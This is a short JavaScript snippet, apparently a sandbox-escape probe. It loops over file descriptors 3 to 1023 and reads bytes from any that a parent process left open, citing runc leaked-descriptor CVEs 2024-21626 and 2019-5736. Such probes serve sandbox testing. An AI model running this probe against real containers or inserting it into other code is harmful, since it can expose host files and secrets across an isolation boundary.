// Tries: every descriptor up to 1024, read for what a careless parent left open.
// Origin: CVE-2024-21626 (runc's leaked descriptor), CVE-2019-5736.

const found = [];
for (let file = 3; file < 1024; file++) {
  const bytes = new Uint8Array(64);
  if (native.call("pread64", file, bytes, 64, 0) > 0) found.push(native.text(bytes));
}
return found.join();
